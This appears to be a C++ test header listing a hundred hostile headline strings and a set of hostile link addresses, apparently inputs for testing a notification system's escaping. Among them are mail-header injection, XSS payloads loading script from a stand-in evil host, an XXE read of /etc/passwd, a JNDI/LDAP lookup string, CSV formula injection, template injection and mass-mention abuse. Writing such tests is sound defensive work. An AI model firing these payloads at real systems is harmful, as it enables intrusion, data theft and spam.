// A hundred headlines that try to become something else: a header, markup, a script, a link, a
// mention, a formula, text that runs the other way. All companies are invented.
#pragma once

#include <array>
#include <string_view>

namespace tipoff::test {

using namespace std::string_view_literals;

inline constexpr auto hundred_hostile_titles = std::to_array<std::string_view>({
    // Headers and envelopes of mail
    "Nordwerk\r\nBcc: everyone@evil.example"sv,
    "Nordwerk\nBcc: everyone@evil.example"sv,
    "Nordwerk\rBcc: everyone@evil.example"sv,
    "Nordwerk\r\n\r\n<html><body>Paid in full</body></html>"sv,
    "Nordwerk\r\n.\r\nMAIL FROM:<a@evil.example>\r\nRCPT TO:<b@evil.example>\r\nDATA"sv,
    "Nordwerk\r\n Reply-To: a@evil.example"sv,
    "Nordwerk\v\f\x1c\x1d\x1e Bcc: everyone@evil.example"sv,
    "Nordwerk \xC2\x85 Bcc: everyone@evil.example"sv,
    "Nordwerk \xE2\x80\xA8 Bcc: \xE2\x80\xA9 everyone@evil.example"sv,
    "=?UTF-8?B?QmNjOiBldmVyeW9uZUBldmlsLmV4YW1wbGU=?="sv,
    "Nordwerk =?utf-8?q?=0D=0ABcc:_everyone@evil.example?= buys"sv,
    "=?UTF-8?Q?=3Cscript=3E?= Nordwerk =?UTF-8?Q?=3C/script=3E?="sv,
    "=?iso-2022-jp?B?GyRCJUYlOSVIGyhC?= Nordwerk"sv,
    "--=_tipoff_alternative--"sv,
    "=_tipoff_alternative\r\n--=_tipoff_alternative\r\nContent-Type: text/html\r\n\r\n<b>x"sv,
    "Content-Transfer-Encoding: 8bit\n\nNordwerk"sv,
    "From: chief@nordwerk.example\r\nSubject: pay now"sv,
    "%0d%0aBcc:%20everyone@evil.example"sv,
    "\\u000d\\u000aBcc: everyone@evil.example"sv,
    "\xE5\x98\x8A\xE5\x98\x8D"
    "Bcc: everyone@evil.example"sv,
    // HTML
    "<script>alert('x')</script>"sv,
    "<ScRiPt src=//evil.example/x.js></sCrIpT>"sv,
    "<img src=x onerror=alert(1)>"sv,
    "\"><svg/onload=alert(1)>"sv,
    "' onmouseover='alert(1)"sv,
    "\" style=\"background:url(javascript:alert(1))"sv,
    "</p></body></html><h1>Paid in full</h1>"sv,
    "<!--"sv,
    "-->]]><b>bold</b>"sv,
    "<![CDATA[<script>alert(1)</script>]]>"sv,
    "<a href=\"javascript:alert(1)\">call</a>"sv,
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>"sv,
    "<meta http-equiv=refresh content=0;url=https://evil.example>"sv,
    "<base href=https://evil.example/><form action=/take><input name=password>"sv,
    "<style>*{display:none}</style>"sv,
    "&lt;script&gt;alert(1)&lt;/script&gt;"sv,
    "&amp;lt;script&amp;gt;alert(1)"sv,
    "&#60;script&#62;alert(1)&#x3c;/script&#x3e;"sv,
    "&NewLine;&Tab;&colon;&lpar;"sv,
    "\xC0\xBCscript\xC0\xBE"
    "alert(1)"sv,
    "\xE0\x80\xBCscript\xE0\x80\xBE"sv,
    "\xF0\x80\x80\xBCscript"sv,
    "\xEF\xBC\x9Cscript\xEF\xBC\x9E"
    "alert(1)"sv,
    "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"sv,
    "<title>Nordwerk</title><textarea>"sv,
    "<math><mtext></mtext><script>alert(1)</script></math>"sv,
    // Links
    "javascript:alert(document.domain)"sv,
    "[Nordwerk](javascript:alert(1))"sv,
    "[Nordwerk buys](https://evil.example/login)"sv,
    "![](https://evil.example/seen.png)"sv,
    "[x]: https://evil.example \"Nordwerk\""sv,
    "<https://evil.example|Nordwerk>"sv,
    "<https://evil.example>"sv,
    "<mailto:a@evil.example|write to us>"sv,
    "](https://evil.example)[Nordwerk"sv,
    "\\](https://evil.example)"sv,
    "[a](https://evil.example \"b\")[c](data:text/html;base64,PHNjcmlwdD4=)"sv,
    "[[Nordwerk]](<https://evil.example>)"sv,
    "<font color=\"warning\">Nordwerk insolvent</font>"sv,
    "dingtalk://dingtalkclient/page/link?url=https%3A%2F%2Fevil.example"sv,
    // Mentions
    "@everyone Nordwerk buys"sv,
    "@here: Nordwerk buys"sv,
    "Nordwerk buys @everyone and @here"sv,
    "<!channel> Nordwerk buys"sv,
    "<!here|here> Nordwerk buys"sv,
    "<!everyone> <!subteam^S012ABC>"sv,
    "<!date^1392734382^{date}^https://evil.example|today>"sv,
    "<@U024BE7LH> <#C024BE7LR> Nordwerk"sv,
    "<@86890631690977280> <@!86890631690977280> <@&165511591545143296> <#103735883630395392>"sv,
    "</give:816437322781949972> <t:1618953630:R> <id:customize>"sv,
    "<:smile:1234> <a:dance:1234> :boom: :skull:"sv,
    "<at id=all></at> Nordwerk"sv,
    "<at user_id=\"all\">all</at> Nordwerk"sv,
    "<at email=a@nordwerk.example></at>"sv,
    "<at>Anna Weber</at> please sign"sv,
    "@_all @13800138000 @\xE6\x89\x80\xE6\x9C\x89\xE4\xBA\xBA Nordwerk"sv,
    "<@all> <@zhangsan> Nordwerk"sv,
    "&lt;!channel&gt; &lt;@all&gt;"sv,
    // Markdown
    "**Nordwerk** __buys__ *Halden* _Pumps_ ~~not~~ ||secret||"sv,
    "# Nordwerk is insolvent"sv,
    "- [ ] call\n- [x] paid"sv,
    "> said the chief executive"sv,
    "1. Nordwerk 2. Halden"sv,
    "```\nrm -rf /\n```"sv,
    "`Nordwerk` \\`Halden\\`"sv,
    "| Nordwerk | Halden |\n|---|---|"sv,
    "Nordwerk\n=======\n---"sv,
    // Templates and formulas
    "{{constructor.constructor('alert(1)')()}}"sv,
    "{{DATE(2026-03-02T08:00:00Z,SHORT)}} ${$root.secret} @{triggerBody()}"sv,
    "${jndi:ldap://evil.example/a} #{7*7} <%= 7*7 %> {% include '/etc/passwd' %}"sv,
    "=HYPERLINK(\"https://evil.example\";\"Nordwerk\")"sv,
    "+1+cmd|' /C calc'!A0"sv,
    "\",\"type\":\"call_list.updated\",\"x\":\""sv,
    // Characters
    "Nordwerk \xE2\x80\xAE gnp.exe \xE2\x80\xAC buys"sv,
    "Nordwerk \xE2\x81\xA6\xE2\x80\xAD hidden \xE2\x81\xA9"sv,
    "Nordwerk \x1b]0;owned\x07 \x1b[2J \x7f buys"sv,
    "Nord\0werk\0\r\nBcc: x@evil.example"sv,
    "Nord\xE2\x80\x8Bwerk \xE2\x80\x8D<\xE2\x80\x8Bscript> \xEF\xBB\xBF@\xE2\x80\x8B"
    "everyone"sv,
    "Nordwerk \xff\xfe\x80 \xED\xA0\x80 \xEF\xBF\xBE \xF4\x90\x80\x80 buys"sv,
    "\xE8\xAF\xBA\xE5\xBE\xB7\xE5\x85\xAC\xE5\x8F\xB8<b>\xE6\x8B\x9F\xE6\x94\xB6\xE8\xB4\xAD</"
    "b>\r\n"
    "\xE5\xAF\x86\xE9\x80\x81: everyone@evil.example"sv,
});

static_assert(hundred_hostile_titles.size() == 100);

/// Addresses that are no links, or try to leave the link that they stand in.
inline constexpr auto hostile_addresses = std::to_array<std::string_view>({
    "javascript:alert(1)"sv,
    "JaVaScRiPt:alert(1)"sv,
    " javascript:alert(1)"sv,
    "java\tscript:alert(1)"sv,
    "data:text/html,<script>alert(1)</script>"sv,
    "file:///etc/passwd"sv,
    "vbscript:x"sv,
    "tel:+49<script>"sv,
    "mailto:a@b.example?bcc=everyone@evil.example"sv,
    "https:///path"sv,
    "//news.example/"sv,
    "https://news.example/\"onmouseover=\"alert(1)"sv,
    "https://news.example/>|<!channel>"sv,
    "https://news.example/a) [b](javascript:alert(1)"sv,
    "https://news.example/a>)\n# b"sv,
    "https://news.example/\r\nBcc: everyone@evil.example"sv,
    "https://news.example/{{DATE(x)}}${y}"sv,
    "https://news.example/@everyone<@all><at id=all>"sv,
});

}  // namespace tipoff::test
